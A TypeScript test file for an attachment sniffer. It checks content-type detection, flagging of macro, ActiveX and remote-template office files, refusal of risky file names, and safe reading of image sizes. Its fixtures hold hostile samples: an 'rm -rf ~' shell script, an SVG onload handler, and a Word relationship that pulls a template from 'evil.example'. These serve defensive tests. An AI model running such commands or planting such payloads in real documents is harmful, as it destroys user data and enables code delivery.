import { nameToOpen } from '@main/attachments/harmless'
import { mostPixels, pixelsOf } from '@main/attachments/image-size'
import { activeDocument, insideZip } from '@main/attachments/inside-zip'
import { mediaTypeOf } from '@main/attachments/media-type'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { aDocm, aDocx, anOdt, aPdf, aPng, aZip } from './sample-files'

const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const bytes = (text: string) => Buffer.from(text, 'latin1')

test.each([
  ['a picture', aPng(), 'image/png'],
  ['a photo', bytes('\xff\xd8\xff\xe0\0\x10JFIF'), 'image/jpeg'],
  ['a moving picture', bytes('GIF89a\x01\0\x01\0'), 'image/gif'],
  ['a newer picture', bytes('RIFF\0\0\0\0WEBPVP8 '), 'image/webp'],
  ['a sound that begins like a newer picture', bytes('RIFF\0\0\0\0WAVEfmt '), 'application/octet-stream'],
  ['a PDF', aPdf(), 'application/pdf'],
  ['a page that hides a PDF', bytes('<script>x</script>\n%PDF-1.4'), 'application/octet-stream'],
  ['plain text', Buffer.from('Grüße\r\n\tAda'), 'text/plain'],
  ['text of an old Windows', bytes('Gr\xfc\xdfe'), 'text/plain'],
  ['a script', bytes('#!/bin/sh\nrm -rf ~'), 'application/octet-stream'],
  ['a starter', bytes('[Desktop Entry]\nExec=sh'), 'application/octet-stream'],
  ['a web page', bytes('\xef\xbb\xbf  <!doctype html>'), 'application/octet-stream'],
  ['a drawing', bytes('<svg onload="x()"/>'), 'application/octet-stream'],
  ['rich text', bytes('{\\rtf1\\object'), 'application/octet-stream'],
  ['a program', bytes('MZ\x90\0\x03\0'), 'application/octet-stream'],
  ['another program', bytes('\x7fELF\x02'), 'application/octet-stream'],
  ['nothing', bytes(''), 'application/octet-stream'],
])('%s is told by its bytes', (_what, content, type) => {
  expect(mediaTypeOf(content)).toBe(type)
})

test('office documents are told from other zips, and from those in which something runs', async () => {
  expect(await insideZip(await aDocx())).toBe(docx)
  expect(await insideZip(await anOdt())).toBe('application/vnd.oasis.opendocument.text')
  expect(await insideZip(await aZip({ 'a.txt': 'a' }))).toBe('application/zip')
  expect(await insideZip(await aDocm())).toBe(activeDocument)
  expect(await insideZip(await aDocx({ 'word/vbaProject.bin': 'x' }))).toBe(activeDocument)
  expect(await insideZip(await aDocx({ 'word/activeX/activeX1.xml': 'x' }))).toBe(activeDocument)
  expect(await insideZip(await aDocx({ 'word/embeddings/oleObject1.bin': 'x' }))).toBe(activeDocument)
  expect(await insideZip(await anOdt({ 'Basic/Standard/Module1.xml': 'x' }))).toBe(activeDocument)
  const remote = '<Relationship Type="x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
  expect(await insideZip(await aDocx({ 'word/_rels/settings.xml.rels': remote }))).toBe(activeDocument)
})

test('a zip that is damaged or lies is just a zip', async () => {
  const whole = await aDocx()
  expect(await insideZip(whole.subarray(0, whole.length - 30))).toBe('application/zip')
  expect(await insideZip(await aZip({ '[Content_Types].xml': `${docx}.main+xml`.repeat(1), mimetype: 'x' }))).toBe(
    'application/zip',
  )
})

test('whatever the bytes, the answer is a type and no error', async () => {
  await fc.assert(
    fc.asyncProperty(fc.uint8Array({ maxLength: 400 }), async (content) => {
      expect(mediaTypeOf(content)).toMatch(/^[a-z]+\/[a-z-]+$/)
      expect(await insideZip(content)).toBe('application/zip')
      for (const type of ['image/png', 'image/jpeg', 'image/gif', 'image/webp'])
        expect(pixelsOf(type, Buffer.from(content)) ?? 0).toBeGreaterThanOrEqual(0)
    }),
  )
})

test.each([
  ['image/png', 'photo.PNG', 'photo.PNG'],
  ['image/png', 'photo.jpg', 'photo.jpg'],
  ['image/jpeg', 'photo', 'photo.jpg'],
  ['application/pdf', 'letter', 'letter.pdf'],
  ['application/pdf', 'letter.pdf.exe', undefined],
  ['image/png', 'photo.html', undefined],
  ['text/plain', 'notes.txt', 'notes.txt'],
  ['text/plain', 'run.desktop', undefined],
  ['text/plain', 'run.bat', undefined],
  ['text/plain', 'table.csv', undefined],
  ['text/plain', 'page.html', undefined],
  [docx, 'offer.docx', 'offer.docx'],
  [docx, 'offer.docm', undefined],
  [activeDocument, 'offer.docx', undefined],
  ['application/zip', 'all.zip', undefined],
  ['application/octet-stream', 'photo.png', undefined],
  ['application/octet-stream', 'setup.exe', undefined],
  ['constructor', 'a', undefined],
])('%s under the name %s is opened as %s', (type, name, expected) => {
  expect(nameToOpen(type, name)).toBe(expected)
})

test('pictures tell how large they are before they unfold', () => {
  expect(pixelsOf('image/png', aPng(40, 30))).toBe(1200)
  expect(pixelsOf('image/gif', bytes('GIF89a\x10\0\x02\0'))).toBe(32)
  const frame = bytes('\xff\xd8\xff\xe0\0\x04ab\xff\xff\xc2\0\x11\x08\x01\0\x02\0\x03')
  expect(pixelsOf('image/jpeg', frame)).toBe(256 * 512)
  expect(pixelsOf('image/webp', bytes('RIFF____WEBPVP8X____\0\0\0\0\x0f\0\0\x01\0\0'))).toBe(32)
  expect(pixelsOf('image/webp', bytes('RIFF____WEBPVP8L____\x2f\x03\x40\0\0\0'))).toBe(8)
  expect(pixelsOf('image/jpeg', frame.subarray(0, 12))).toBeUndefined()
  expect(pixelsOf('image/png', aPng(1, 1, { width: 65_000, height: 65_000 }))).toBeGreaterThan(mostPixels)
})
